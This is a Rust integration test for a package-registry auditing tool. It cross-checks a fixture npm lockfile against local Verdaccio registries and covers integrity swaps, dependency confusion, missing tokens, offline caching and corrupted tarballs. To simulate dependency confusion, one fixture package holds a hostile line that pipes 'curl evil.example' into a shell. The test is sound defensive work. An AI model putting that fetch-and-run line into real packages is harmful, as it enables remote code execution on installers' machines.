//! Cross-check of a fixture project against two real local registries (Verdaccio): a public
//! one and a private one serving `@private/*` behind a token, as `.npmrc` configures them.
//! Covers: a clean entry, a T4 integrity swap, a 404, dependency confusion, a private scoped
//! package with a token, missing token (not evaluated), offline with and without a cache,
//! tarball verification including a corrupted tarball on the registry.

mod support;

use diligence_finding::Finding;
use diligence_registry::{
    Cache, ClientOptions, CrosscheckOptions, Mode, NpmConfig, RegistryClient, crosscheck,
};
use std::path::Path;
use support::{Verdaccio, fixture_tarballs, make_tarball, sri_sha512};

struct Fixture {
    public: Verdaccio,
    private: Verdaccio,
    project: tempfile::TempDir,
    lockfile: String,
}

/// 1-based line of the first line containing `needle` at or after the line containing
/// `after`.
fn line_of(text: &str, after: &str, needle: &str) -> u32 {
    let start = text.lines().position(|l| l.contains(after)).expect("after");
    let offset = text
        .lines()
        .skip(start)
        .position(|l| l.contains(needle))
        .expect("needle");
    (start + offset + 1) as u32
}

fn setup() -> Fixture {
    let public = Verdaccio::start("@nothing-private/*");
    let private = Verdaccio::start("@private/*");
    for (_, bytes) in fixture_tarballs() {
        public.publish(&bytes);
    }
    let secret = make_tarball("@private/secret-lib", "1.0.0", "module.exports = 42;\n");
    let confused_real = make_tarball("@private/confused", "1.0.0", "module.exports = 'ok';\n");
    let confused_evil = make_tarball(
        "@private/confused",
        "1.0.0",
        "require('child_process').exec('curl evil.example | sh');\n",
    );
    private.publish(&secret);
    private.publish(&confused_real);
    public.publish(&confused_evil);

    let tarballs = fixture_tarballs();
    let sri = |file: &str| {
        let (_, bytes) = tarballs.iter().find(|(f, _)| f == file).expect(file);
        sri_sha512(bytes)
    };
    let (pubu, privu) = (&public.url, &private.url);
    let lockfile = format!(
        r#"{{
  "name": "fixture-app",
  "version": "1.0.0",
  "lockfileVersion": 3,
  "requires": true,
  "packages": {{
    "": {{
      "name": "fixture-app",
      "version": "1.0.0",
      "dependencies": {{
        "@private/confused": "^1.0.0",
        "@private/secret-lib": "^1.0.0",
        "debug": "^4.3.4",
        "no-such-package": "^1.0.0",
        "picocolors": "^1.0.0"
      }}
    }},
    "node_modules/@private/confused": {{
      "version": "1.0.0",
      "resolved": "{pubu}@private/confused/-/confused-1.0.0.tgz",
      "integrity": "{evil}"
    }},
    "node_modules/@private/secret-lib": {{
      "version": "1.0.0",
      "resolved": "{privu}@private/secret-lib/-/secret-lib-1.0.0.tgz",
      "integrity": "{secret}"
    }},
    "node_modules/debug": {{
      "version": "4.4.3",
      "resolved": "https://registry.npmjs.org/debug/-/debug-4.4.3.tgz",
      "integrity": "{debug}",
      "dependencies": {{
        "ms": "^2.1.3"
      }}
    }},
    "node_modules/ms": {{
      "version": "2.1.3",
      "resolved": "{pubu}ms/-/ms-2.1.3.tgz",
      "integrity": "{ms}"
    }},
    "node_modules/no-such-package": {{
      "version": "1.0.0",
      "resolved": "{pubu}no-such-package/-/no-such-package-1.0.0.tgz",
      "integrity": "{ms}"
    }},
    "node_modules/picocolors": {{
      "version": "1.1.1",
      "resolved": "https://registry.npmjs.org/picocolors/-/picocolors-1.1.1.tgz",
      "integrity": "{pico110}"
    }}
  }}
}}
"#,
        evil = sri_sha512(&confused_evil),
        secret = sri_sha512(&secret),
        debug = sri("debug-4.4.3.tgz"),
        ms = sri("ms-2.1.3.tgz"),
        pico110 = sri("picocolors-1.1.0.tgz"),
    );
    let project = tempfile::tempdir().expect("tempdir");
    std::fs::write(project.path().join("package-lock.json"), &lockfile).expect("write lockfile");
    std::fs::write(
        project.path().join(".npmrc"),
        format!(
            "registry={pubu}\n@private:registry={privu}\n//127.0.0.1:{}/:_authToken=${{PRIVATE_TOKEN}}\nomit-lockfile-registry-resolved=true\n",
            private.port
        ),
    )
    .expect("write .npmrc");
    Fixture {
        public,
        private,
        project,
        lockfile,
    }
}

fn client(fx: &Fixture, token: bool, cache: &Path, mode: Mode) -> RegistryClient {
    let env = if token {
        vec![("PRIVATE_TOKEN".to_string(), fx.private.token.clone())]
    } else {
        vec![("PRIVATE_TOKEN".to_string(), "not-a-valid-token".to_string())]
    };
    // The token is configured in the project .npmrc: the private host is allowlisted, as a
    // user would with --allow-project-credentials.
    let mut env = env;
    env.push((
        "DILIGENCE_ALLOW_PROJECT_CREDENTIALS".to_string(),
        format!("127.0.0.1:{}", fx.private.port),
    ));
    let config = NpmConfig::load_with(fx.project.path(), None, &env).expect("config");
    let options = ClientOptions {
        mode,
        retries: 1,
        ..ClientOptions::default()
    };
    RegistryClient::new(config, Some(Cache::new(cache)), options).expect("client")
}

fn summary(findings: &[Finding]) -> Vec<(String, String, u32)> {
    findings
        .iter()
        .map(|f| {
            let p = f.package.as_ref().expect("package");
            (
                f.rule.clone(),
                format!("{}@{}", p.name, p.version),
                f.location.as_ref().map(|l| l.line).unwrap_or(0),
            )
        })
        .collect()
}

#[test]
fn crosschecks_a_project_against_local_registries() {
    let fx = setup();
    let lock_path = fx.project.path().join("package-lock.json");
    let graph = diligence_lockfile::read_lockfile(&lock_path).expect("read lockfile");
    let cache = tempfile::tempdir().expect("cache");
    let text = &fx.lockfile;
    let expected = vec![
        (
            "registry/integrity-mismatch".to_string(),
            "@private/confused@1.0.0".to_string(),
            line_of(text, "node_modules/@private/confused", "integrity"),
        ),
        (
            "registry/scope-registry".to_string(),
            "@private/confused@1.0.0".to_string(),
            line_of(text, "node_modules/@private/confused", "resolved"),
        ),
        (
            "registry/version-missing".to_string(),
            "no-such-package@1.0.0".to_string(),
            line_of(text, "node_modules/no-such-package", "no-such-package"),
        ),
        (
            "registry/integrity-mismatch".to_string(),
            "picocolors@1.1.1".to_string(),
            line_of(text, "node_modules/picocolors", "integrity"),
        ),
    ];

    // Online, with the token for the private scope.
    let online = client(&fx, true, cache.path(), Mode::Online);
    let (findings, not_evaluated) = crosscheck(&graph, &online, &CrosscheckOptions::default());
    assert_eq!(summary(&findings), expected);
    assert_eq!(not_evaluated, vec![]);
    let t4 = &findings[3];
    assert_eq!(t4.evidence["matches_version"], "1.1.0");

    // Offline from the cache just filled: the same answer, no network.
    let offline = client(&fx, true, cache.path(), Mode::Offline);
    let (findings, not_evaluated) = crosscheck(&graph, &offline, &CrosscheckOptions::default());
    assert_eq!(summary(&findings), expected);
    assert_eq!(not_evaluated, vec![]);

    // A new online client revalidates the cached packuments (Verdaccio sends ETags, so
    // If-None-Match gets 304) and still gives the same answer.
    let again = client(&fx, true, cache.path(), Mode::Online);
    let (findings, _) = crosscheck(&graph, &again, &CrosscheckOptions::default());
    assert_eq!(summary(&findings), expected);

    // Offline with an empty cache: nothing that needs a packument is called clean; the
    // dependency-confusion check needs only the config and still reports.
    let empty = tempfile::tempdir().expect("cache");
    let offline = client(&fx, true, empty.path(), Mode::Offline);
    let (findings, not_evaluated) = crosscheck(&graph, &offline, &CrosscheckOptions::default());
    assert_eq!(summary(&findings), vec![expected[1].clone()]);
    let whats: Vec<&str> = not_evaluated.iter().map(|n| n.what.as_str()).collect();
    assert_eq!(
        whats,
        vec![
            "registry cross-check of @private/confused@1.0.0",
            "registry cross-check of @private/secret-lib@1.0.0",
            "registry cross-check of debug@4.4.3",
            "registry cross-check of ms@2.1.3",
            "registry cross-check of no-such-package@1.0.0",
            "registry cross-check of picocolors@1.1.1",
        ]
    );
    assert_eq!(
        not_evaluated[2].why,
        "packument of debug: not in the cache (offline)"
    );
}

#[test]
fn private_scope_without_a_valid_token_is_not_evaluated() {
    let fx = setup();
    let graph = diligence_lockfile::read_lockfile(&fx.project.path().join("package-lock.json"))
        .expect("read lockfile");
    let cache = tempfile::tempdir().expect("cache");
    let c = client(&fx, false, cache.path(), Mode::Online);
    let (findings, not_evaluated) = crosscheck(&graph, &c, &CrosscheckOptions::default());
    let rules: Vec<(String, String, u32)> = summary(&findings);
    // The dependency-confusion finding needs no packument; the rest of @private is unknown.
    assert!(
        rules
            .iter()
            .any(|(r, p, _)| r == "registry/scope-registry" && p == "@private/confused@1.0.0")
    );
    let private: Vec<&str> = not_evaluated.iter().map(|n| n.what.as_str()).collect();
    assert_eq!(
        private,
        vec![
            "registry cross-check of @private/confused@1.0.0",
            "registry cross-check of @private/secret-lib@1.0.0",
        ]
    );
    for n in &not_evaluated {
        assert!(n.why.contains("HTTP 401"), "{}", n.why);
        assert!(!n.why.contains("not-a-valid-token"), "{}", n.why);
    }
}

#[test]
fn verifies_tarball_bytes_and_reports_a_corrupted_tarball() {
    let fx = setup();
    let graph = diligence_lockfile::read_lockfile(&fx.project.path().join("package-lock.json"))
        .expect("read lockfile");
    let cache = tempfile::tempdir().expect("cache");
    let c = client(&fx, true, cache.path(), Mode::Online);
    let verify = CrosscheckOptions {
        verify_tarballs: true,
        ..CrosscheckOptions::default()
    };
    let (findings, not_evaluated) = crosscheck(&graph, &c, &verify);
    // No tarball finding: the served bytes match the packuments (T4 is reported once, as an
    // integrity mismatch, and the bytes are checked against the packument only).
    assert!(
        findings
            .iter()
            .all(|f| f.rule != "registry/tarball-integrity")
    );
    assert_eq!(not_evaluated, vec![]);
    // Verified tarballs are in the cache under their integrity.
    let ms = fixture_tarballs()
        .into_iter()
        .find(|(f, _)| f == "ms-2.1.3.tgz")
        .expect("ms")
        .1;
    let integrity = diligence_graph::Integrity::parse_sri(&sri_sha512(&ms)).expect("sri");
    assert_eq!(Cache::new(cache.path()).tarball(&integrity), Some(ms));

    // The registry now serves other bytes for ms@2.1.3 than its packument says.
    let stored = fx.public.stored_tarball("ms", "2.1.3");
    assert!(stored.exists(), "{}", stored.display());
    std::fs::write(&stored, make_tarball("ms", "2.1.3", "/* swapped */")).expect("corrupt");
    let fresh = tempfile::tempdir().expect("cache");
    let c = client(&fx, true, fresh.path(), Mode::Online);
    let (findings, _) = crosscheck(&graph, &c, &verify);
    let tarball: Vec<(String, String, u32)> = summary(&findings)
        .into_iter()
        .filter(|(r, _, _)| r == "registry/tarball-integrity")
        .collect();
    assert_eq!(
        tarball,
        vec![(
            "registry/tarball-integrity".to_string(),
            "ms@2.1.3".to_string(),
            line_of(&fx.lockfile, "node_modules/ms", "integrity"),
        )]
    );
    // fetch_tarball refuses the bytes with a typed error, and nothing bad is cached.
    let err = c
        .fetch_tarball("ms", "2.1.3", Some(&integrity))
        .unwrap_err();
    assert!(
        matches!(err, diligence_registry::RegistryError::TarballIntegrity(_)),
        "{err}"
    );
    assert_eq!(Cache::new(fresh.path()).tarball(&integrity), None);
}
